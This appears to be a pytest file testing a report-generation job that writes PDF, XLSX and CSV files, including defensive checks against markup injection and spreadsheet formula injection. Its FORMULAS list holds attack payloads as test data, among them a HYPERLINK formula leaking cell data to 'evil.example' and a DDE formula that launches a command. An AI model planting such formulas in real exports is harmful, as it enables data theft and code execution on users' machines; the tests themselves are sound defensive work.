"""generateReport: the files open in real readers and hold the data."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from PIL import Image
from pydantic import ValidationError
from pypdf import PdfReader

from services.runtime import Stores
from services.worker.handlers.generate_report import GenerateReport

COLUMNS = ["Region", "Units", "Revenue"]
ROWS = [["North", 12, 1050.5], ["South", 7, 610.0], ["East, coastal", None, 0]]


async def download(api: httpx.AsyncClient, doc: dict[str, Any]) -> httpx.Response:
    artifact = doc["result"]["artifact"]
    r = await api.get(artifact["downloadPath"])
    assert r.status_code == 200
    assert r.headers["content-type"].startswith(artifact["contentType"].split(";")[0])
    assert int(r.headers["content-length"]) == artifact["size"] == len(r.content)
    listed = doc["artifacts"][0]
    assert (listed["name"], listed["size"]) == (artifact["name"], artifact["size"])
    return r


async def test_pdf_has_title_and_cells(api: httpx.AsyncClient, run_job: Any) -> None:
    doc = await run_job("generateReport", {"format": "pdf", "title": "Quarterly sales",
                                           "columns": COLUMNS, "rows": ROWS})
    assert doc["status"] == "COMPLETED", doc.get("error")
    text = PdfReader(io.BytesIO((await download(api, doc)).content)).pages[0].extract_text()
    for expected in ("Quarterly sales", "Region", "North", "1050.5", "East, coastal"):
        assert expected in text


async def test_xlsx_has_the_rows(api: httpx.AsyncClient, run_job: Any) -> None:
    doc = await run_job("generateReport", {"format": "xlsx", "title": "Sales: Q1/Q2",
                                           "columns": COLUMNS, "rows": ROWS})
    book = load_workbook(io.BytesIO((await download(api, doc)).content))
    sheet = book.worksheets[0]
    assert book.properties.title == "Sales: Q1/Q2"
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == [COLUMNS, *ROWS]


async def test_csv_round_trips(api: httpx.AsyncClient, run_job: Any) -> None:
    doc = await run_job("generateReport", {"format": "csv", "title": "t", "columns": COLUMNS,
                                           "rows": ROWS})
    assert doc["result"]["rows"] == 3
    rows = list(csv.reader(io.StringIO((await download(api, doc)).text)))
    assert rows == [COLUMNS, *[["" if c is None else str(c) for c in r] for r in ROWS]]


async def test_artifacts_are_deleted_with_their_job(api: httpx.AsyncClient,
                                                    run_job: Any) -> None:
    doc = await run_job("generateReport", {"format": "csv", "title": "t", "columns": ["a"],
                                           "rows": [[1]]})
    path = doc["result"]["artifact"]["downloadPath"]
    assert (await api.get(f"/jobs/{doc['_id']}/artifacts/nope.csv")).status_code == 404
    assert (await api.delete(f"/jobs/{doc['_id']}")).status_code == 204
    assert (await api.get(path)).status_code == 404
    assert (await api.get(f"/jobs/{doc['_id']}")).status_code == 404


@pytest.mark.parametrize("title", ["A < B & C <Ops>", "<b>not bold</b> &amp; &#60;",
                                   '<img src="/etc/passwd"/>'])
async def test_pdf_title_prints_as_written(api: httpx.AsyncClient, run_job: Any,
                                           title: str) -> None:
    doc = await run_job("generateReport", {"format": "pdf", "title": title,
                                           "columns": ["<Ops>"], "rows": [["<i>x</i> &"]]})
    assert doc["status"] == "COMPLETED", doc.get("error")
    page = PdfReader(io.BytesIO((await download(api, doc)).content)).pages[0]
    text = page.extract_text()
    assert title in text and "<Ops>" in text and "<i>x</i> &" in text, text


async def test_pdf_title_cannot_embed_a_local_file(api: httpx.AsyncClient, run_job: Any,
                                                   tmp_path: Path) -> None:
    secret = tmp_path / "secret.png"
    Image.new("RGB", (40, 40), "red").save(secret)
    title = f'<img src="{secret}" width="40" height="40"/>'
    doc = await run_job("generateReport", {"format": "pdf", "title": title,
                                           "columns": ["a"], "rows": [[1]]})
    assert doc["status"] == "COMPLETED", doc.get("error")
    pdf = (await download(api, doc)).content
    page = PdfReader(io.BytesIO(pdf)).pages[0]
    assert list(page.images) == [] and b"/Subtype /Image" not in pdf
    printed = "".join(page.extract_text().split())  # the long title wraps
    assert "".join(title.split()) in printed


def report(fmt: str, rows: int, columns: int, cell: Any = 1) -> dict[str, Any]:
    return {"format": fmt, "title": "t", "columns": [f"c{i}" for i in range(columns)],
            "rows": [[cell] * columns for _ in range(rows)]}


@pytest.mark.parametrize(("payload", "why"), [
    (report("pdf", 5_001, 1), "at most 5000 rows"),
    (report("pdf", 1_000, 51), "at most 50000 cells"),
    (report("xlsx", 2_501, 100), "at most 250000 cells"),
    (report("pdf", 1, 1, "x" * 2_001), "at most 2000 characters"),
])
async def test_report_over_its_format_limits_is_422(api: httpx.AsyncClient, stores: Stores,
                                                    payload: dict[str, Any],
                                                    why: str) -> None:
    r = await api.post("/jobs", json={"jobType": "generateReport", "payload": payload})
    assert r.status_code == 422, r.text[:300]
    details = r.json()["error"]["details"]
    assert [d["field"] for d in details] == ["payload.rows"], details
    assert why in details[0]["message"]
    assert await stores.jobs.count_documents({}) == 0


def test_report_text_is_bounded_in_bytes() -> None:
    """Past the default body limit, so checked on the model: 1.2 MB of text in a PDF."""
    with pytest.raises(ValidationError, match="bytes of text"):
        GenerateReport.model_validate(report("pdf", 600, 1, "\u00e9" * 1_000))
    GenerateReport.model_validate(report("xlsx", 600, 1, "\u00e9" * 1_000))


async def test_what_pdf_refuses_csv_accepts(api: httpx.AsyncClient) -> None:
    r = await api.post("/jobs", json={"jobType": "generateReport",
                                      "payload": report("csv", 5_001, 1)})
    assert r.status_code == 202, r.text[:300]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&B1,"click")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


async def test_xlsx_strings_are_never_formulas(api: httpx.AsyncClient, run_job: Any) -> None:
    doc = await run_job("generateReport", {"format": "xlsx", "title": "t",
                                           "columns": ["=A1", "n"],
                                           "rows": [[f, -5] for f in FORMULAS if "\r" not in f]})
    content = (await download(api, doc)).content
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.value for c in cells[::2]] == ["=A1", *(f for f in FORMULAS if "\r" not in f)]
    assert {c.data_type for c in cells[::2]} == {"s"}
    assert [c.value for c in cells[3::2]] == [-5] * (len(FORMULAS) - 1)  # numbers stay numbers


async def test_csv_cells_a_spreadsheet_would_run_are_quoted(api: httpx.AsyncClient,
                                                            run_job: Any) -> None:
    doc = await run_job("generateReport", {"format": "csv", "title": "t",
                                           "columns": ["@col", "n"],
                                           "rows": [[f, -5] for f in FORMULAS] + [["ok", 1.5]]})
    rows = list(csv.reader(io.StringIO((await download(api, doc)).text, newline="")))
    assert rows == [["'@col", "n"], *[["'" + f, "-5"] for f in FORMULAS], ["ok", "1.5"]]


@pytest.mark.parametrize(("where", "field"), [
    ({"title": "a\x01b"}, "title"),
    ({"columns": ["ok", "a\x0bb"]}, "columns[1]"),
    ({"rows": [["x", "y"], ["z", "a\x00b"]]}, "rows[1][1]"),
])
async def test_xlsx_refuses_control_characters_at_submit(api: httpx.AsyncClient, stores: Stores,
                                                         where: dict[str, Any],
                                                         field: str) -> None:
    payload = {"format": "xlsx", "title": "t", "columns": ["a", "b"], "rows": [], **where}
    r = await api.post("/jobs", json={"jobType": "generateReport", "payload": payload})
    assert r.status_code == 422, r.text[:300]
    assert field in r.json()["error"]["details"][0]["message"]
    assert await stores.jobs.count_documents({}) == 0


@pytest.mark.parametrize("fmt", ["pdf", "csv"])
async def test_other_formats_write_control_characters(api: httpx.AsyncClient, run_job: Any,
                                                      fmt: str) -> None:
    doc = await run_job("generateReport", {"format": fmt, "title": "a\x01b",
                                           "columns": ["a\x0bb"], "rows": [["a\x00b"]]})
    assert doc["status"] == "COMPLETED", doc.get("error")
